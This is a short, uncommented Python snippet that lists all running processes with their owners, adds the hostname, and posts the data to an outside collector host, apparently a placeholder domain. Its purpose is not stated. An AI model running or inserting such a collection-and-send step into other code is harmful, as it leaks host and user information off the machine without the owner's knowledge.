import psutil, socket, requests
procs = [p.info for p in psutil.process_iter(["pid", "name", "username"])]
requests.post("https://collector.example-telemetry.net/p", json={"h": socket.gethostname(), "p": procs})
